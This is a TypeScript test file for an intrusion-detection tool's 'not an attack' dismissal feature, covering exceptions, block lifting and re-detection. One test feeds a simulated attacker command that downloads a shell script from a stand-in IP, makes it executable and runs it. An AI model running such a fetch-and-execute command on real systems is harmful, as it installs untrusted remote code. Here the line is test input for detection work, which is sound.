/** A person's word that an incident is no attack, in running analysis. */
import type { Action } from '@netsentinel/contracts/action';
import { isExceptionInForce } from '@netsentinel/contracts/exception-time';
import { afterEach, describe, expect, it } from 'vitest';
import { FindingExceptions } from '../rules/finding-exceptions.ts';
import {
  ATTACKER,
  command,
  FakeState,
  FakeStream,
  HOUR,
  login,
  NOW,
  startAnalysis,
  stopAnalysis,
} from './analysis.fixture.ts';
import { createDismissals } from './not-an-attack.ts';

afterEach(stopAnalysis);

async function start() {
  const stream = new FakeStream();
  const state = new FakeState();
  const exceptions = new FindingExceptions();
  const { analysis, clock, settled, planned } = await startAnalysis(stream, state, { exceptions });
  const reverted: string[] = [];
  const dismissals = createDismissals({
    state: state.port,
    clock,
    analysis,
    reload: async () =>
      exceptions.use([...state.exceptions.values()].filter((one) => isExceptionInForce(one, clock.now()))),
    revert: (...order) => {
      reverted.push(order.join(' | '));
      return true;
    },
  });
  return { stream, state, dismissals, clock, settled, planned, reverted };
}

const word = { reason: 'our backup', days: 7 };

describe('not an attack', () => {
  it('closes the incident, says who said so and why, and lifts the blocks', async () => {
    const { stream, state, dismissals, settled, planned, reverted } = await start();
    stream.feed(login('success'));
    await settled(1);
    const block: Action = { ...planned[0]!, status: 'verified' };
    state.actions.set(block.id, block);
    const [id] = [...state.incidents.keys()];
    const dismissed = await dismissals.dismiss(id!, word, 'ada');
    expect(dismissed).toMatchObject({
      incident: { id, status: 'benign' },
      lifted: 1,
      exception: {
        rules: expect.arrayContaining(['decoy-login-success']),
        where: { 'source.ip': [ATTACKER] },
        reason: 'our backup',
        by: 'ada',
        incident: id,
        until: new Date(NOW + 7 * 24 * HOUR).toISOString(),
      },
    });
    expect(reverted).toEqual([`${block.id} | not an attack: our backup | ada`]);
    expect(state.incidents.get(id!)!.timeline.at(-1)).toMatchObject({
      title: 'Not an attack',
      detail: 'ada: our backup',
    });
    expect(await dismissals.dismiss('inc-none', word, 'ada')).toBeUndefined();
  });

  it('leaves the same alone, and nothing else of the same attacker, nor the same of another', async () => {
    const { stream, state, dismissals, settled } = await start();
    stream.feed(login('success'));
    await settled(1);
    const [id] = [...state.incidents.keys()];
    await dismissals.dismiss(id!, word, 'ada');
    stream.feed(login('success', { atMs: NOW + 1000 }), login('failure', { atMs: NOW + 2000 }));
    await settled(3);
    expect([...state.incidents.keys()]).toEqual([id]);
    stream.feed(login('success', { atMs: NOW + 3000, ip: '203.0.113.50' }));
    await settled(4);
    expect(state.incidents.size).toBe(2);
    stream.feed(command('wget http://192.0.2.9/x.sh -O /tmp/x; chmod +x /tmp/x; /tmp/x'));
    await settled(5);
    const again = [...state.incidents.values()].filter((one) => one.actor === ATTACKER && one.id !== id);
    expect(again).toHaveLength(1);
    expect(again[0]).toMatchObject({ status: 'open' });
    expect(again[0]!.detections.map(({ rule }) => rule)).not.toContain('decoy-login-success');
  });

  it('finds the same again when the exception has ended, by time or by a word', async () => {
    const { stream, state, dismissals, clock, settled } = await start();
    stream.feed(login('success'));
    await settled(1);
    const [id] = [...state.incidents.keys()];
    const { exception } = (await dismissals.dismiss(id!, word, 'ada'))!;
    expect(await dismissals.endException('3b241101-e2bb-4255-8caf-4136c566a962', 'eve')).toBe(false);
    expect(await dismissals.endException(exception!.id, 'eve')).toBe(true);
    expect(await dismissals.endException(exception!.id, 'eve')).toBe(false);
    expect(state.exceptions.get(exception!.id)).toMatchObject({
      by: 'ada',
      ended: { by: 'eve', at: new Date(clock.now()).toISOString() },
    });
    stream.feed(login('success', { atMs: NOW + 1000 }));
    await settled(2);
    expect([...state.incidents.values()].map(({ status }) => status)).toEqual(['benign', 'open']);
  });

  it('said again, takes the latest word', async () => {
    const { stream, state, dismissals, settled } = await start();
    stream.feed(login('success'));
    await settled(1);
    const [id] = [...state.incidents.keys()];
    await dismissals.dismiss(id!, word, 'ada');
    await dismissals.dismiss(id!, { reason: 'the monitoring', days: 1 }, 'bob');
    expect([...state.exceptions.values()]).toMatchObject([{ by: 'bob', reason: 'the monitoring' }]);
  });
});
